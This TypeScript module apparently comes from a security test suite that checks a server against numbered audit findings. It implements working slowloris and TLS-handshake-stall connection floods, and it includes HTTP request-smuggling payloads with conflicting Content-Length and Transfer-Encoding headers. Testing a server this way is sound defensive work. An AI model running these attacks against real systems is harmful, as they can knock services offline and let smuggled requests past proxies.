/**
 * @module
 * Attacks on HTTP heads and TLS handshakes: slowloris, request smuggling
 * with conflicting lengths, handshakes left hanging (silent or after a
 * ClientHello).
 */

import { ATTACKER, attackerSources, AttackSocket, closedByServer, connectMany, destroyAll } from "../support/sock.ts";
import { clientHello } from "../support/wire.ts";
import { type AttackReport, type Bounds, over, pause, report } from "./common.ts";

/**
 * Slowloris on an HTTP listener (finding 7, the metrics port): `n`
 * connections each sending a request line and then one header byte every
 * `everyMs`, never finishing the head. `notes.openAtEnd` is how many the
 * server still held at the bound.
 */
export async function slowloris(
  port: number,
  b: Bounds & { n: number; sources?: number; everyMs?: number; stopWhenAllClosed?: boolean },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, attackerSources(b.sources ?? 1), {
    concurrency: 50,
    deadline: Date.now() + b.durationMs,
  });
  let sent = 0;
  for (const s of sockets) {
    s.write("GET /metrics HTTP/1.1\r\nHost: x\r\nX-a: ");
  }
  while (!over(b, t0)) {
    if (b.stopWhenAllClosed && sockets.every((s) => !s.open)) break;
    for (const s of sockets) {
      if (s.open) {
        s.write("a");
        sent++;
      }
    }
    await pause(b.everyMs ?? 1000, b.signal);
  }
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    bytesSent: sent,
    notes: { openAtEnd: sockets.length - closed },
  });
}

/** Request-smuggling probes (finding 8): the head of each, sent alone on a fresh connection. */
export const SMUGGLING = {
  "two Content-Length": "POST /ping HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 44\r\n\r\n" +
    "hello" + "GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n",
  "Content-Length list": "POST /ping HTTP/1.1\r\nHost: x\r\nContent-Length: 5, 44\r\n\r\nhello",
  "Transfer-Encoding and Content-Length":
    "POST /ping HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
} as const;

/**
 * Sends one smuggling probe and reads what comes back until the server
 * closes or `timeoutMs`. Returns the status lines seen and whether it closed.
 */
export async function smuggle(
  port: number,
  request: string,
  timeoutMs = 3000,
): Promise<{ statuses: number[]; closed: boolean }> {
  const s = await AttackSocket.connect(port, ATTACKER);
  await s.write(request);
  await s.readUntil(() => false, timeoutMs);
  const statuses = [...s.text().matchAll(/HTTP\/1\.1 (\d{3})/g)].map((m) => Number(m[1]));
  const closed = s.closedByPeer;
  s.destroy();
  return { statuses, closed };
}

/**
 * Connections stuck in the TLS handshake (second run, finding 1): `n`
 * connections that say nothing (`silent`) or send a ClientHello and then
 * nothing (`hello`), held until the bound. `notes.serverHellos` counts
 * ClientHellos the server answered (proof the hello was good).
 */
export async function tlsStall(
  port: number,
  mode: "silent" | "hello",
  b: Bounds & {
    n: number;
    sources?: number;
    sourceOffset?: number;
    onHeld?: (sockets: AttackSocket[]) => Promise<void>;
  },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, attackerSources(b.sources ?? 4, b.sourceOffset), {
    concurrency: 50,
    deadline: Date.now() + b.durationMs,
  });
  let serverHellos = 0;
  if (mode === "hello") {
    await Promise.all(sockets.map(async (s) => {
      await s.write(clientHello());
      if (await s.readUntil((x) => x.length > 0, 3000) && s.received[0] === 0x16) serverHellos++;
    }));
  }
  await b.onHeld?.(sockets);
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    notes: { serverHellos },
  });
}
